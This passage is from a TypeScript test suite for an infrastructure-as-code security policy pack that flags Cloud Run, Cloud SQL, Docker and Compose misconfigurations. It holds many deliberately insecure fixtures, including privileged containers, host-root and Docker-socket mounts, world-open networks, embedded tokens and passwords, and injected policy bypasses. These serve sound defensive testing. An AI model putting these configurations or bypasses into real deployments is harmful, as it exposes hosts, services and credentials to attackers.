      ["a JDBC URL in a plain config var", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { JDBC: "jdbc:postgresql://db/week?password=hunter2" } })],
    ],
    good: [["secrets in sensitive config vars", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", sensitiveConfigVars: { SECRET_KEY: "x" }, configVars: { LOG_LEVEL: "info" } })]],
  },
  [RULE_IDS.gcpSqlSsl]: {
    bad: [
      ["Cloud SQL without SSL required", sql({ "settings.ip_configuration.ssl_mode": "ALLOW_UNENCRYPTED_AND_ENCRYPTED" })],
      ["ssl_mode from an expression", sql({ "settings.ip_configuration.ssl_mode": "${var.mode}" })],
    ],
    good: [["ENCRYPTED_ONLY", sql()]],
  },
  [RULE_IDS.gcpSqlNoWorldNetwork]: {
    bad: [
      ["0.0.0.0/0", networks("0.0.0.0/0")],
      ["two halves", networks("0.0.0.0/1", "128.0.0.0/1")],
      ["four quarters out of order", networks("192.0.0.0/2", "0.0.0.0/2", "128.0.0.0/2", "64.0.0.0/2")],
      ["overlapping ranges that cover everything", networks("0.0.0.0/1", "100.0.0.0/6", "128.0.0.0/2", "160.0.0.0/3", "192.0.0.0/2")],
      ["::/0", networks("::/0")],
      ["IPv6 halves", networks("::/1", "8000::/1")],
      ["a network from an expression", networks("${var.cidr}")],
      ["something that is not a range", networks("everyone")],
      ["networks in a dynamic block", sql({ "settings.dynamic.ip_configuration": { for_each: "${var.x}", content: { authorized_networks: [{ value: "0.0.0.0/0" }] } } })],
      ["networks in a dynamic block inside ip_configuration", sql({ "settings.ip_configuration.dynamic.authorized_networks": { for_each: "${var.cidrs}", content: { value: "${authorized_networks.value}" } } })],
    ],
    good: [
      ["no network", sql()],
      ["one office", networks("203.0.113.0/24")],
      ["halves with a gap", networks("0.0.0.0/1", "128.0.0.0/2", "192.0.0.0/3", "224.0.0.0/4", "240.0.0.0/5", "248.0.0.0/6", "252.0.0.0/7", "254.0.0.0/8", "255.0.0.0/9")],
      ["a single address", networks("198.51.100.7")],
    ],
  },
  [RULE_IDS.gcpSqlBackupsAndProtection]: {
    bad: [
      ["Cloud SQL without backups", sql({ "settings.backup_configuration.enabled": false })],
      ["backups from an expression", sql({ "settings.backup_configuration.enabled": "${var.b}" })],
      ["Cloud SQL without deletion protection", sql({ deletion_protection: false })],
      ["deletion protection from an expression", sql({ deletion_protection: "${var.p}" })],
    ],
    good: [["both on", sql()]],
  },
  [RULE_IDS.gcpRunNoPublicInvoke]: {
    bad: [
      ["Cloud Run open to allUsers", invoker("allUsers")],
      ["allAuthenticatedUsers", invoker("allAuthenticatedUsers")],
      ["the public principal set", invoker("principalSet://goog/public:all")],
      ["a member from an expression", invoker("${var.member}")],
      ["a v2 binding", raw("google_cloud_run_v2_service_iam_binding", "b", { name: "api", role: "roles/run.invoker", members: ["user:a@b.c", "allUsers"] })],
      ["a v2 policy with literal JSON", raw("google_cloud_run_v2_service_iam_policy", "p", { name: "api", policy_data: JSON.stringify({ bindings: [{ role: "roles/run.invoker", members: ["allUsers"] }] }) })],
      ["a v2 policy from a google_iam_policy", (s) => { (s as TerraformStack).addOverride("data.google_iam_policy.open", { binding: [{ role: "roles/run.invoker", members: ["allUsers"] }] }); raw("google_cloud_run_v2_service_iam_policy", "p", { name: "api", policy_data: "${data.google_iam_policy.open.policy_data}" })(s); }],
      ["a v1 member", raw("google_cloud_run_service_iam_member", "m", { service: "api", role: "roles/run.invoker", member: "allUsers" })],
      ["a v1 binding", raw("google_cloud_run_service_iam_binding", "b", { service: "api", role: "roles/run.invoker", members: ["allAuthenticatedUsers"] })],
      ["project-level run.invoker", raw("google_project_iam_member", "m", { project: "p", role: "roles/run.invoker", member: "allUsers" })],
      ["project-level binding", raw("google_project_iam_binding", "b", { project: "p", role: "roles/run.invoker", members: ["allUsers"] })],
      ["allUsers in another case", invoker("ALLUSERS")],
      ["a member with no identity prefix", invoker("everyone")],
      ["invoker IAM disabled", run({ invoker_iam_disabled: true })],
      ["invoker IAM disabled by an expression", run({ invoker_iam_disabled: "${var.open}" })],
      ["a v1 service opened by annotation", raw("google_cloud_run_service", "old", { name: "x", location: "l", metadata: { annotations: { "run.googleapis.com/invoker-iam-disabled": "true" } }, template: { spec: { containers: [{ image: "gcr.io/p/api@sha256:" + "a".repeat(64) }] } } })],
      ["a v2 service opened by annotation", run({ annotations: { "run.googleapis.com/invoker-iam-disabled": "True" } })],
      ["annotations from an expression", run({ annotations: "${var.annotations}" })],
      ["policy_data keys in another case", raw("google_cloud_run_v2_service_iam_policy", "p", { name: "api", policy_data: JSON.stringify({ Bindings: [{ Role: "roles/run.invoker", MEMBERS: ["allUsers"] }] }) })],
      ["a dynamic binding in a google_iam_policy", (s) => { (s as TerraformStack).addOverride("data.google_iam_policy.open", { dynamic: { binding: { for_each: "${var.b}", content: { role: "roles/run.invoker", members: ["allUsers"] } } } }); raw("google_cloud_run_v2_service_iam_policy", "p", { name: "api", policy_data: "${data.google_iam_policy.open.policy_data}" })(s); }],
      ["a dynamic block on a binding", raw("google_cloud_run_v2_service_iam_binding", "b", { name: "api", role: "roles/run.invoker", dynamic: { condition: { for_each: "${var.c}", content: { expression: "true" } } }, members: ["allUsers"] })],
      ["a custom role granted to allUsers on the project", raw("google_project_iam_member", "m", { project: "p", role: "projects/p/roles/invokeAll", member: "allUsers" })],
      ["a custom role granted to an unknown member", raw("google_project_iam_member", "m", { project: "p", role: "organizations/1/roles/runInvoke", member: "${var.who}" })],
      ["allUsers with any role on the project", raw("google_project_iam_member", "m", { project: "p", role: "roles/viewer", member: "allUsers" })],
    ],
    good: [
      ["a named service account", invoker("serviceAccount:ui@p.iam.gserviceaccount.com")],
      ["a service account from a resource", invoker("serviceAccount:${google_service_account.ui.email}")],
      ["the member of an account the document creates", (s) => { const sa = new ServiceAccount(s, "sa", { accountId: "week-ui" }); invoker(sa.member)(s); }],
      ["project-level Cloud SQL client for a service account", raw("google_project_iam_member", "m", { project: "p", role: "roles/cloudsql.client", member: "serviceAccount:x@p.iam.gserviceaccount.com" })],
      ["a service with IAM on", run({ invoker_iam_disabled: false })],
    ],
  },
  [RULE_IDS.gcpRunDedicatedAccount]: {
    bad: [
      ["Cloud Run as the default compute account", run({ "template.service_account": undefined })],
      ["the compute account by name", run({ "template.service_account": "123-compute@developer.gserviceaccount.com" })],
      ["an account from a variable", run({ "template.service_account": "${var.sa}" })],
    ],
    good: [
      ["a dedicated account", run()],
      ["the email of an account the document creates", (s) => { const sa = new ServiceAccount(s, "sa", { accountId: "week-api" }); run({ "template.service_account": sa.email })(s); }],
    ],
  },
  [RULE_IDS.dockerfilePinnedBase]: {
    bad: [
      ["an unpinned base", dockerfileWith("python:3.11-slim-bookworm", "python")],
      ["a major-only base", dockerfileWith("python:3.11-slim-bookworm", "python:3")],
      ["a FROM with an unpinned default", image("FROM ${BASE:-python:latest}\nUSER app")],
      ["a FROM with a variable that has no value", image("ARG BASE\nFROM ${BASE}\nUSER app")],
      ["a build argument that unpins the base", image(goodDockerfile, { build_args: { BASE_IMAGE: "python:latest" } })],
      ["a build argument from an expression", image(goodDockerfile, { build_args: { BASE_IMAGE: "${var.base}" } })],
      ["COPY --from an unpinned image", image("FROM python:3.11.9\nCOPY --from=busybox:latest /bin/sh /sh\nUSER app")],
      ["a Dockerfile path from an expression", image(goodDockerfile, { dockerfile: "${var.dockerfile}" })],
      ["a context from an expression", image(goodDockerfile, { context: "${var.context}" })],
      ["a Dockerfile that is not in the context", image(goodDockerfile, { dockerfile: "Dockerfile.missing" })],
      ["another Dockerfile in the context, unpinned", image(goodDockerfile, { dockerfile: "Dockerfile.dev" }, { "Dockerfile.dev": "FROM python\nUSER app" })],
      ["the Dockerfile a Heroku build's heroku.yml names, unpinned", herokuBuild({ Dockerfile: goodDockerfile, "heroku.yml": "build:\n  docker:\n    web: Dockerfile.web\n", "Dockerfile.web": "FROM python:3\nUSER app" })],
      ["RUN --mount from an unpinned image", dockerfileWith("USER app", "RUN --mount=type=bind,from=busybox:latest,target=/b /b/sh -c true\nUSER app")],
      ["RUN --mount from an untagged image in a cache mount", dockerfileWith("USER app", "RUN --mount=type=cache,from=alpine,target=/c true\nUSER app")],
      ["RUN --mount from an ARG that unpins", dockerfileWith("USER app", "ARG TOOLS=golang:1\nRUN --mount=from=${TOOLS},target=/t true\nUSER app")],
    ],
    good: [
      ["pinned through an ARG default", image(goodDockerfile)],
      ["a pinned default in ${X:-...}", image("FROM ${BASE:-python:3.11.9-slim}\nUSER app")],
      ["a build argument that pins", image(goodDockerfile, { build_args: { BASE_IMAGE: "python:3.12.7-slim" } })],
      ["scratch", image("FROM python:3.11.9 AS b\nFROM scratch\nCOPY --from=b /x /x\nUSER 1000")],
      ["another Dockerfile, pinned", image(goodDockerfile, { dockerfile: "Dockerfile.dev" }, { "Dockerfile.dev": goodDockerfile })],
      ["RUN --mount from an earlier stage", dockerfileWith("USER app", "RUN --mount=from=build,target=/b true\nUSER app")],
      ["a Heroku build of a pinned Dockerfile", herokuBuild({ Dockerfile: goodDockerfile, "heroku.yml": "build:\n  docker:\n    web: Dockerfile\n" })],
    ],
  },
  [RULE_IDS.dockerfileNonRoot]: {
    bad: [
      ["USER root", dockerfileWith("USER app", "USER root")],
      ["USER 0", dockerfileWith("USER app", "USER 0")],
      ["USER 000", dockerfileWith("USER app", "USER 000")],
      ["USER root:root", dockerfileWith("USER app", "USER root:root")],
      ["USER 0:1000", dockerfileWith("USER app", "USER 0:1000")],
      ["USER from an ARG defaulting to root", dockerfileWith("USER app", "ARG RUN_AS=root\nUSER ${RUN_AS}")],
      ["USER from an ARG with no value", dockerfileWith("USER app", "ARG RUN_AS\nUSER $RUN_AS")],
      ["USER from an ENV of root", dockerfileWith("USER app", "ENV WHO=0\nUSER ${WHO}")],
      ["USER from a build argument set to root", image(goodDockerfile.replace("USER app", "ARG RUN_AS=app\nUSER ${RUN_AS}"), { build_args: { RUN_AS: "root" } })],
      ["no USER in the final stage", dockerfileWith("USER app\n", "")],
      ["a USER only in an earlier stage", image("FROM python:3.11.9 AS build\nUSER app\nFROM python:3.11.9\nCOPY --from=build /x /x")],
      ["root last in the stage", dockerfileWith("USER app", "USER app\nUSER root")],
      ["a build target of a root stage", image(goodDockerfile, { target: "build" })],
      ["a target from an expression", image(goodDockerfile, { target: "${var.target}" })],
      ["a target that names no stage", image(goodDockerfile, { target: "nope" })],
      ["a Heroku build whose heroku.yml names a root Dockerfile", herokuBuild({ Dockerfile: goodDockerfile, "heroku.yml": "build:\n  docker:\n    web: Dockerfile.root\n", "Dockerfile.root": "FROM python:3.11.9\nUSER root" })],
      ["an ENV of the same name after the ARG", dockerfileWith("USER app", "ARG RUN_AS=app\nENV RUN_AS=0\nUSER ${RUN_AS}")],
      ["an ENV of the same name before the ARG (ENV wins)", dockerfileWith("USER app", "ENV RUN_AS=0\nARG RUN_AS=app\nUSER $RUN_AS")],
      ["an ENV inherited from the stage it builds FROM", image("FROM python:3.11.9 AS base\nENV RUN_AS=root\nFROM base\nARG RUN_AS=app\nUSER ${RUN_AS}")],
      ["the legacy ENV form", dockerfileWith("USER app", "ENV RUN_AS 0\nUSER $RUN_AS")],
      ["USER +0", dockerfileWith("USER app", "USER +0")],
      ["USER -0:0", dockerfileWith("USER app", "USER -0:0")],
      ["USER in lower-case keyword", dockerfileWith("USER app", "user root")],
      ["a user created with uid 0", dockerfileWith("USER app", "RUN useradd -o -u 0 app\nUSER app")],
    ],
    good: [
      ["USER app", image(goodDockerfile)],
      ["a numeric uid", dockerfileWith("USER app", "USER 1000:1000")],
      ["a user from an ARG default", dockerfileWith("USER app", "ARG RUN_AS=app\nUSER ${RUN_AS}")],
      ["a user from an ENV", dockerfileWith("USER app", "ENV RUN_AS=app\nUSER $RUN_AS")],
      ["a user from a quoted ENV", dockerfileWith("USER app", 'ENV RUN_AS="app" OTHER="x y"\nUSER ${RUN_AS}')],
      ["a USER inherited from the stage it builds FROM", image("FROM python:3.11.9 AS base\nUSER app\nFROM base\nCMD [\"python\"]")],
      ["the target stage that runs as app", image(goodDockerfile, { target: "runtime" })],
    ],
  },
  [RULE_IDS.dockerfileNoSecrets]: {
    bad: [
      ["a token build argument", dockerfileWith("FROM ${BASE_IMAGE} AS runtime\n", "FROM ${BASE_IMAGE} AS runtime\nARG GIT_TOKEN\n")],
      ["DB_PASS as ENV", dockerfileWith("USER app", "ENV DB_PASS=x\nUSER app")],
      ["a global ARG key", image("ARG NPM_KEY\n" + goodDockerfile)],
      ["a URL with credentials in an ENV", dockerfileWith("USER app", "ENV PIP_INDEX_URL=https://ada:pw@pypi.example/simple\nUSER app")],
      ["a token in a RUN", dockerfileWith("USER app", `RUN git clone https://${"ghp_" + "a1B2".repeat(9)}@github.com/ada/week.git\nUSER app`)],
      ["a DSN in a quoted ENV", dockerfileWith("USER app", 'ENV DB="host=db password=hunter2"\nUSER app')],
      ["a password in a heredoc RUN", dockerfileWith("USER app", "RUN <<EOF\nmysql --password=hunter2 -e 'select 1'\nEOF\nUSER app")],
    ],
    good: [["ordinary ARG and ENV", dockerfileWith("USER app", "ENV PIP_INDEX_URL=https://pypi.example/simple PORT=8000\nUSER app")]],
  },
  [RULE_IDS.dockerfileNoRecommends]: {
    bad: [["apt-get install with recommends", dockerfileWith(" --no-install-recommends", "")]],
    good: [["--no-install-recommends", image(goodDockerfile)]],
  },
  [RULE_IDS.dockerfileNoCaches]: {
    bad: [
      ["apt lists left behind", dockerfileWith(" && rm -rf /var/lib/apt/lists/*", "")],
      ["pip's cache kept", dockerfileWith("pip install --no-cache-dir", "pip install")],
    ],
    good: [["caches removed", image(goodDockerfile)]],
  },
  [RULE_IDS.dockerfileNoRemoteAdd]: {
    bad: [
      ["ADD https://", dockerfileWith("ADD app.tar.gz", "ADD https://example.com/app.tar.gz")],
      ["ADD http:// in JSON form", dockerfileWith("ADD app.tar.gz /opt/app/", 'ADD ["http://example.com/app.tar.gz", "/opt/app/"]')],
      ["ADD with a checksum flag still fetches", dockerfileWith("ADD app.tar.gz", "ADD --checksum=sha256:abc https://example.com/app.tar.gz")],
      ["ADD of a git repository over ssh", dockerfileWith("ADD app.tar.gz", "ADD git@github.com:ada/week.git")],
      ["ADD of a git repository over https", dockerfileWith("ADD app.tar.gz", "ADD https://github.com/ada/week.git#v1.0.0")],
      ["ADD from a variable", dockerfileWith("ADD app.tar.gz", "ARG SRC=https://example.com/a.tgz\nADD ${SRC}")],
      ["ADD of a double-quoted URL", dockerfileWith("ADD app.tar.gz", 'ADD "https://example.com/app.tar.gz"')],
      ["ADD of a single-quoted URL", dockerfileWith("ADD app.tar.gz", "ADD 'https://example.com/app.tar.gz'")],
      ["add in lower case", dockerfileWith("ADD app.tar.gz", "add https://example.com/app.tar.gz")],
      ["an upper-case scheme", dockerfileWith("ADD app.tar.gz", "ADD HTTPS://example.com/app.tar.gz")],
      ["an ftp URL", dockerfileWith("ADD app.tar.gz", "ADD ftp://example.com/app.tar.gz")],
      ["an scp-like git address with another user", dockerfileWith("ADD app.tar.gz", "ADD deploy@git.example.com:ada/week.git")],
    ],
    good: [["ADD of a local archive", image(goodDockerfile)]],
  },
};

const cases = Object.entries(table).flatMap(([id, { bad, good }]) => [
  ...bad.map(([what, make]) => [id, "fires on", what, make, true] as const),
  ...good.map(([what, make]) => [id, "stays quiet on", what, make, false] as const),
]);

describe("policy rules on the synthesised document", () => {
  it.each(cases)("%s %s %s", (id, _verb, _what, make, fires) => {
    const report = check(id, make);
    const warns = rule(id).level === "warning";
    if (fires) {
      expect(warns ? report.warnings.length : report.findings).toBeGreaterThan(0);
      expect((warns ? report.warnings : report.errors)[0]).toMatch(new RegExp(`^\\[${id}\\] ([\\w-]+/\\S+|[a-z_0-9]+(\\.[\\w-]+)*): .+\\. Fix: .+`));
    } else {
      expect(report).toEqual(expect.objectContaining({ findings: 0, errors: [], warnings: [] }));
    }
  });

  it("every rule has a unique WEEK id, a one-line statement, and bad and good cases above", () => {
    const ids = WEEK_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of WEEK_RULES) {
      expect(r.id).toMatch(/^WEEK-[A-Z]+-\d{3}$/);
      expect(r.statement).toMatch(/^[A-Z][^\n]+\.$/);
      expect(table[r.id]?.bad.length).toBeGreaterThan(0);
      expect(table[r.id]?.good.length).toBeGreaterThan(0);
    }
    expect(new Set(Object.keys(table))).toEqual(new Set(ids));
  });

  it("never shows a secret's value in a finding", () => {
    const report = check(RULE_IDS.secretLiterals, container({}, { env: ["DB_PASS=hunter2", "DB=postgresql://u:hunter2@db/week"] }));
    expect(report.findings).toBe(2);
    expect(report.errors.join("\n")).not.toContain("hunter2");
  });
});

describe("pinned image references", () => {
  it.each([
    ["postgres:17.6-bookworm", true],
    ["ubuntu:24.04", true],
    ["python:3.11-slim-bookworm", true],
    ["localhost:5000/week/api:1.2.3", true],
    ["ubuntu:noble-20240904.1", true],
    ["postgres:17", false],
    ["postgres:17-bookworm", false],
    ["localhost:5000/week/api", false],
    ["ubuntu:rolling", false],
    ["debian:stable-slim", false],
    ["node:lts", false],
    ["ubuntu:latest", false],
    ["ubuntu:Latest", false],
  ])("%s pinned: %s", (ref, pinned) => {
    expect(isPinnedReference(ref)).toBe(pinned);
  });
});

describe("suppressions", () => {
  it("waive one rule where they are, with the reason, and are counted", () => {
    const report = check(RULE_IDS.statefulDestroyProtection, (s) => {
      const volume = new Volume(s, "v", { name: "scratch" });
      suppress(volume, RULE_IDS.statefulDestroyProtection, "scratch space that the course throws away every day");
    });
    expect(report).toEqual(expect.objectContaining({ findings: 0, suppressions: 1 }));
  });

  it("waive the resources under the construct they are made on", () => {
    const report = check(RULE_IDS.dockerContainerLimits, (s) => {
      const group = new Construct(s, "group");
      new Container(group, "c", { ...goodContainer, memory: undefined });
      suppress(group, RULE_IDS.dockerContainerLimits, "a one-off job container that the test runs and removes");
    });
    expect(report).toEqual(expect.objectContaining({ findings: 0, suppressions: 1 }));
  });

  it("must name a rule and give a reason", () => {
    const stack = new TerraformStack(testApp(), "s");
    expect(() => suppress(stack, "DOCKER-1" as never, "because it is fine here")).toThrow('ruleId must be a rule id such as WEEK-DOCKER-001, got "DOCKER-1"');
    expect(() => suppress(stack, RULE_IDS.statefulDestroyProtection, "ok")).toThrow('must say why in a sentence, got "ok"');
  });

  it("do not waive other rules, nor a resource added elsewhere by override", () => {
    expect(
      check(RULE_IDS.dockerContainerLimits, (s) => {
        const c = new Container(s, "c", { ...goodContainer, memory: undefined });
        suppress(c, RULE_IDS.dockerLoopbackPorts, "the ports are opened on purpose in this test");
      }).findings,
    ).toBe(1);
    expect(
      check(RULE_IDS.dockerNoHostControl, (s) => {
        const c = new Container(s, "c", goodContainer);
        suppress(c, RULE_IDS.dockerNoHostControl, "this container is allowed to be privileged in the test");
        raw("docker_container", "other", { ...goodContainer, privileged: true })(s);
      }),
    ).toEqual(expect.objectContaining({ findings: 1, suppressions: 0 }));
  });

  it("cannot be borrowed by a resource that forges another construct's path in its metadata", () => {
    const report = check(RULE_IDS.dockerNoHostControl, (s) => {
      const c = new Container(s, "c", goodContainer);
      suppress(c, RULE_IDS.dockerNoHostControl, "this container is allowed to be privileged in the test");
      raw("docker_container", "forged", { ...goodContainer, "//": { metadata: { path: "policy/c" } }, privileged: true })(s);
    });
    expect(report).toEqual(expect.objectContaining({ findings: 1, suppressions: 0 }));
    expect(report.errors[0]).toMatch(/^\[WEEK-DOCKER-004\] docker_container\.forged: /);
  });
});

describe("the pack at synth", () => {
  function appStack() {
    const app = new App({ outdir: fs.mkdtempSync(path.join(os.tmpdir(), "week-out-")) });
    const stack = new TerraformStack(app, "bad");
    new DockerProvider(stack, "docker", {});
    return { app, stack };
  }
  afterEach(() => jest.restoreAllMocks());

  it("stops app synth with the rule id, the construct path, the message and the fix", () => {
    const { app, stack } = appStack();
    new Image(stack, "i", { name: "postgres:latest" });
    PolicyPack.applyTo(stack, WEEK_RULES);
    expect(() => app.synth()).toThrow(/\[WEEK-DOCKER-001\] bad\/i: image "postgres:latest" is not pinned: its tag latest holds the channel latest, which moves\. Fix: name an exact release/);
  });

  it("judges overrides and aspects added after the pack, in the document synth writes", () => {
    const { app, stack } = appStack();
    const c = new Container(stack, "c", goodContainer);
    const pack = PolicyPack.applyTo(stack, WEEK_RULES);
    c.addOverride("privileged", "${true}");
    c.addOverride("network_mode", "host");
    const aspect: IAspect = {
      visit(node: IConstruct) {
        if (node instanceof Container) node.addOverride("volumes", [{ host_path: "/", container_path: "/host" }]);
      },
    };
    Aspects.of(stack).add(aspect);
    stack.addOverride("resource.docker_container.sidecar", { ...goodContainer, name: "sidecar", memory: "${0}" });
    expect(() => app.synth()).toThrow(PolicyFindingsError);
    const errors = pack.report.errors.join("\n");
    expect(errors).toContain('[WEEK-DOCKER-004] bad/c: privileged is "${true}", an expression the rule cannot prove false');
    expect(errors).toContain("[WEEK-DOCKER-004] bad/c: network_mode is host");
    expect(errors).toContain("[WEEK-DOCKER-004] bad/c: it mounts the host's /");
    expect(errors).toContain('[WEEK-DOCKER-003] docker_container.sidecar: memory is "${0}"');
    const written = JSON.parse(fs.readFileSync(path.join(app.outdir, "stacks", "bad", "cdk.tf.json"), "utf8"));
    expect(written.resource.docker_container.c.network_mode).toBe("host");
  });

  it("under the cdktf CLI, reports findings as error annotations in the manifest instead of throwing", () => {
    const app = new App({ outdir: fs.mkdtempSync(path.join(os.tmpdir(), "week-out-")) });
    process.env.CDKTF_CONTINUE_SYNTH_ON_ERROR_ANNOTATIONS = "1";
    let stack: TerraformStack;
    try {
      stack = new TerraformStack(app, "local");
    } finally {
      delete process.env.CDKTF_CONTINUE_SYNTH_ON_ERROR_ANNOTATIONS;
    }
    new DockerProvider(stack, "docker", {});
    new Image(stack, "i", { name: "postgres:17" });
    const pack = PolicyPack.applyTo(stack, WEEK_RULES);
    app.synth();
    const manifest = JSON.parse(fs.readFileSync(path.join(app.outdir, "manifest.json"), "utf8"));
    const annotations = manifest.stacks.local.annotations as Array<{ level: string; message: string }>;
    expect(annotations).toContainEqual(expect.objectContaining({ level: "@cdktf/error", message: expect.stringContaining('[WEEK-DOCKER-001] local/i: image "postgres:17"') }));
    expect(pack.report.findings).toBe(1);
  });

  it("summarises rules, findings and suppressions in one line", () => {
    const stack = new TerraformStack(testApp(), "local");
    const pack = PolicyPack.applyTo(stack, WEEK_RULES);
    expect(pack.summary()).toBe(`policy local: ${WEEK_RULES.length} rules checked, 0 findings, 0 suppressions`);
  });
});

describe("the rule engine on another kind of document", () => {
  it("runs rules written for that kind, with the same suppressions by path", () => {
    type Services = { services: Record<string, { privileged?: boolean }> };
    const composeRule: PolicyRule<Services> = {
      id: RULE_IDS.dockerNoHostControl,
      statement: "No service is privileged.",
      check: (doc) => Object.entries(doc.services).filter(([, s]) => s.privileged === true).map(([name]) => ({ path: `compose/services/${name}`, message: "privileged", fix: "drop it" })),
    };
    const doc: Services = { services: { api: { privileged: true }, db: { privileged: true } } };
    const table = new Map([["compose/services/db", [{ ruleId: RULE_IDS.dockerNoHostControl, reason: "a test waiver for the database" }]]]);
    expect(judgeDocument([composeRule], doc, table)).toEqual({
      rules: 1,
      findings: 1,
      suppressions: 1,
      errors: ["[WEEK-DOCKER-004] compose/services/api: privileged. Fix: drop it"],
      warnings: [],
      suppressed: [{ ruleId: RULE_IDS.dockerNoHostControl, path: "compose/services/db", reason: "a test waiver for the database" }],
    });
    const terraform: TerraformDocument = { kind: "terraform", stack: "x", json: {} };
    expect(judgeDocument(WEEK_RULES, terraform).findings).toBe(0);
  });
});

describe("Compose services through the same container checks", () => {
  const good = {
    image: "week-api:1.0.0",
    ports: [{ target: 8000, published: 8080, host_ip: "127.0.0.1" }, "127.0.0.1:8501:8501"],
    mem_limit: "512m",
    restart: "unless-stopped",
    healthcheck: { test: ["CMD", "true"] },
    volumes: ["database-data:/var/lib/postgresql/data", "./notebooks:/home/student/workspace"],
    environment: { PORT: "8000", POSTGRES_PASSWORD_FILE: "/run/secrets/pw" },
  };
  const checks = {
    host: (s: Record<string, unknown>) => hostControlFindings(containerOfCompose("compose/services/x", s)),
    ports: (s: Record<string, unknown>) => portFindings(containerOfCompose("compose/services/x", s)),
    limits: (s: Record<string, unknown>) => limitsFindings(containerOfCompose("compose/services/x", s)),
    env: (s: Record<string, unknown>) => envSecretFindings("compose/services/x", containerOfCompose("compose/services/x", s).env, /\bsensitive\(/),
  };
  const bad: Array<[keyof typeof checks, string, Record<string, unknown>]> = [
    ["host", "privileged", { privileged: true }],
    ["host", "privileged from a variable", { privileged: "${PRIV}" }],
    ["host", "host network", { network_mode: "host" }],
    ["host", "host pid", { pid: "host" }],
    ["host", "host ipc", { ipc: "host" }],
    ["host", "an added capability", { cap_add: ["SYS_ADMIN"] }],
    ["host", "a device", { devices: ["/dev/fuse:/dev/fuse"] }],
    ["host", "the Docker socket, short syntax", { volumes: ["/var/run/docker.sock:/var/run/docker.sock"] }],
    ["host", "the host's root, long syntax", { volumes: [{ type: "bind", source: "/", target: "/host" }] }],
    ["host", "a bind from a variable", { volumes: ["$HOME:/h"] }],
    ["host", "the home folder", { volumes: ["~:/h"] }],
    ["host", "the docker config in the home folder", { volumes: ["~/.docker:/root/.docker:ro"] }],
    ["host", "seccomp unconfined", { security_opt: ["seccomp:unconfined"] }],
    ["host", "user root", { user: "0" }],
    ["ports", "a short port on every interface", { ports: ["8080:8000"] }],
    ["ports", "a container port only", { ports: ["8000"] }],
    ["ports", "a long port without host_ip", { ports: [{ target: 8000, published: 8080 }] }],
    ["ports", "an address from a variable", { ports: ["${BIND}:8080:8000"] }],
    ["limits", "no memory limit", { mem_limit: undefined }],
    ["limits", "a memory limit from a variable", { mem_limit: "${MEM}" }],
    ["limits", "a disabled healthcheck", { healthcheck: { disable: true } }],
    ["limits", "restart no", { restart: "no" }],
    ["env", "a literal password", { environment: { DB_PASS: "hunter2" } }],
    ["env", "a URL with a password in a list", { environment: ["DATABASE=postgresql://u:hunter2@db/week"] }],
  ];
  it.each(bad)("%s check fires on %s", (check, _what, change) => {
    expect(checks[check](good)).toEqual([]);
    const findings = checks[check]({ ...good, ...change });
    expect(findings.length).toBeGreaterThan(0);
    expect(findings[0].path).toBe("compose/services/x");
  });
  it.each([
    ["ports", "IPv6 loopback", { ports: ["[::1]:8080:8000"] }],
    ["limits", "deploy.resources.limits.memory", { mem_limit: undefined, deploy: { resources: { limits: { memory: "1g" } } } }],
    ["limits", "a healthcheck as a string", { healthcheck: { test: "curl -f http://localhost/" } }],
    ["host", "an escaped dollar in a bind", { volumes: ["./data$$:/d"] }],
  ] as Array<[keyof typeof checks, string, Record<string, unknown>]>)("%s check stays quiet on %s", (check, _what, change) => {
    expect(checks[check]({ ...good, ...change })).toEqual([]);
  });
});

describe("the week's stacks with bypasses injected, as an outside review tries them", () => {
  const TOKEN = `ghp_${"a1B2".repeat(9)}`;
  type Injection = [string, (stack: TerraformStack) => void, string];
  const firstContainer = (stack: TerraformStack) => stack.node.findAll().find((n): n is Container => n instanceof Container)!;
  function judged(make: () => TerraformStack, inject: (stack: TerraformStack) => void) {
    const stack = make();
    inject(stack);
    return PolicyPack.applyTo(stack, WEEK_RULES).judge();
  }
  const local: Injection[] = [
    ["user +0", (st) => firstContainer(st).addOverride("user", "+0"), RULE_IDS.dockerNoHostControl],
    ["a named volume bind-mounting /", (st) => st.addOverride("resource.docker_volume.root", { name: "root", driver_opts: { type: "none", o: "bind", device: "/" }, lifecycle: { prevent_destroy: true } }), RULE_IDS.dockerNoHostControl],
    ["volumes_from", (st) => firstContainer(st).addOverride("volumes", [{ from_container: "week-database", container_path: "/x" }]), RULE_IDS.dockerNoHostControl],
    ["a seccomp profile that allows all", (st) => firstContainer(st).addOverride("security_opts", ['seccomp={"defaultAction":"SCMP_ACT_ALLOW"}']), RULE_IDS.dockerNoHostControl],
    ["a docker_service", (st) => st.addOverride("resource.docker_service.s", { name: "s", task_spec: { container_spec: { image: "busybox:1.37.0" } } }), RULE_IDS.knownResources],
    ["a null_resource running docker", (st) => st.addOverride("resource.null_resource.n", { provisioner: [{ "local-exec": { command: "docker run --privileged busybox:1.37.0" } }] }), RULE_IDS.knownResources],
    ["a macvlan network", (st) => st.addOverride("resource.docker_network.lan", { name: "lan", driver: "macvlan" }), RULE_IDS.knownResources],
    ["a tag that moves", (st) => firstContainer(st).addOverride("image", "postgres:17.6-latest"), RULE_IDS.dockerPinnedImage],
    ["a token in the command", (st) => firstContainer(st).addOverride("command", ["sh", "-c", `echo ${TOKEN}`]), RULE_IDS.secretLiterals],
    ["a libpq DSN in a label", (st) => firstContainer(st).addOverride("labels", [{ label: "db", value: "host=db password=hunter2" }]), RULE_IDS.secretLiterals],
  ];
  it.each(local)("local: %s is a finding", (_what, inject, ruleId) => {
    const report = judged(() => new LocalStack(testApp(), "local", weekConfig()), inject);
    expect(report.errors.some((e) => e.startsWith(`[${ruleId}] `))).toBe(true);
  });

  const gcp: Injection[] = [
    ["a v1 annotation that opens a service", (st) => st.addOverride("resource.google_cloud_run_service.old", { name: "x", location: "l", metadata: { annotations: { "run.googleapis.com/invoker-iam-disabled": "true" } }, template: { spec: { containers: [{ image: "gcr.io/p/a@sha256:" + "a".repeat(64) }] } } }), RULE_IDS.gcpRunNoPublicInvoke],
    ["a custom role for allUsers", (st) => st.addOverride("resource.google_project_iam_member.open", { project: "p", role: "projects/p/roles/invoke", member: "allUsers" }), RULE_IDS.gcpRunNoPublicInvoke],
